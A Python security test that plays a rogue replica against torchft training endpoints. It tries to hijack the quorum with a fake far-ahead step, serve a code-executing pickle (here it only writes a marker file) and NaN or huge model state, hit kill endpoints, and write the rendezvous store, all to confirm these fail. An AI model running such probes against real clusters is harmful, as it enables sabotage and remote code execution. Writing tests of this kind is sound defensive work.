"""A rogue replica on the tier's network, run in the agent venv (it uses torchft's own clients, as an
attacker would): it finds every listener on the tier interface, and on each one that is a tier gate tries to
join the quorum (a claimed step of 10^6), fetch the global model as a healer, serve a pickle and NaN / huge
state, write the rendezvous store, and every kill path (the Lighthouse's /replica/<id>/kill and its /status
page, the Managers' Kill). It prints one JSON object: what it tried, and what it got (nothing, is the point).

    python tests/security/rogue_replica.py --host 127.0.0.2 --ports 4100,4200 --marker /tmp/x
"""
from __future__ import annotations

import argparse
import io
import json
import math
import pickle
import socket
import struct
import sys
from datetime import timedelta

import torch


class Payload:
    """Unpickling this writes the marker file: proof of code execution if it ever appears."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _until_closed(sock: socket.socket, timeout: float = 3.0) -> bytes:
    sock.settimeout(timeout)
    got = b""
    try:
        while chunk := sock.recv(65536):
            got += chunk
    except (ConnectionResetError, TimeoutError):
        pass
    return got


def _raw(host: str, port: int, data: bytes) -> bytes:
    """What the listener answers to `data` (its first line, a gate's challenge, included)."""
    try:
        with socket.create_connection((host, port), timeout=3) as c:
            c.sendall(data)
            return _until_closed(c)
    except OSError as exc:
        return f"<{type(exc).__name__}>".encode()


def _is_gate(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=2) as c:
            c.settimeout(0.5)
            return c.recv(7) == b"WGATE2 "
    except OSError:
        return False


def _beyond_challenge(answer: bytes) -> bytes:
    return answer.split(b"\n", 1)[1] if answer.startswith(b"WGATE2 ") and b"\n" in answer else answer


def _state_bytes(value: float) -> bytes:
    """A safetensors file with one tensor of `value` (NaN, or huge): state a healer might be served."""
    from safetensors.torch import save

    return save({"user.default.global": torch.full((64,), value)})


def attack(host: str, port: int, marker: str) -> dict:
    import torchft._torchft as tft

    got: dict = {"port": port}
    addr = f"http://{host}:{port}"
    # 1. join the quorum, claiming a step far ahead so that the real sites would heal from us
    try:
        q = tft.LighthouseClient(addr, connect_timeout=timedelta(seconds=2)).quorum(
            replica_id="rogue:00000000-0000-0000-0000-000000000000", timeout=timedelta(seconds=3),
            address="http://203.0.113.9:1", store_address="203.0.113.9:2", step=10**6, world_size=1)
        got["joined"] = [m.replica_id for m in q.participants]
    except Exception as exc:  # noqa: BLE001 - what it got is the record
        got["joined"] = None
        got["join_error"] = type(exc).__name__
    # 2. the heal path: the Manager's checkpoint metadata, then the state server's checkpoint
    try:
        got["heal_metadata"] = tft.ManagerClient(addr, connect_timeout=timedelta(seconds=2))._checkpoint_metadata(
            0, timeout=timedelta(seconds=3))
    except Exception as exc:  # noqa: BLE001
        got["heal_metadata"] = None
        got["heal_error"] = type(exc).__name__
    answers = {
        "status_page": _raw(host, port, b"GET /status HTTP/1.1\r\nHost: x\r\n\r\n"),
        "lighthouse_kill": _raw(host, port, b"POST /replica/site-0/kill HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"),
        "checkpoint_fetch": _raw(host, port, b"GET /checkpoint/1 HTTP/1.1\r\nHost: x\r\n\r\n"),
    }
    # 3. payloads: a pickle that writes the marker, NaN and huge state, as a body anyone reading it would parse
    buf = io.BytesIO()
    pickle.dump({"user": Payload(marker)}, buf)
    for name, body in (("pickle", buf.getvalue()), ("nan_state", _state_bytes(math.nan)),
                       ("huge_state", _state_bytes(1e30))):
        answers[name] = _raw(host, port, b"POST /checkpoint/1 HTTP/1.1\r\nHost: x\r\nContent-Length: "
                             + str(len(body)).encode() + b"\r\n\r\n" + body)
    # 4. the Manager's Kill over gRPC (HTTP/2 preface, then whatever follows is never read)
    answers["manager_kill"] = _raw(host, port, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00\x00\x00\x00\x00")
    # 5. the rendezvous store: a c10d client
    try:
        from torch.distributed import TCPStore

        st = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
        st.set("torchft/1/0/rogue", "1")
        got["store_write"] = True
    except Exception as exc:  # noqa: BLE001
        got["store_write"] = False
        got["store_error"] = type(exc).__name__
    got["answers_beyond_challenge"] = {k: _beyond_challenge(v).decode(errors="replace")[:200] for k, v in answers.items()}
    return got


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--ports", required=True, help="every listening port on the tier interface")
    ap.add_argument("--marker", required=True, help="a file the pickle payload would create")
    args = ap.parse_args()
    ports = [int(p) for p in args.ports.split(",") if p]
    gates = [p for p in ports if _is_gate(args.host, p)]
    out = {"ports": ports, "gates": gates, "attacks": [attack(args.host, p, args.marker) for p in gates]}
    json.dump(out, sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
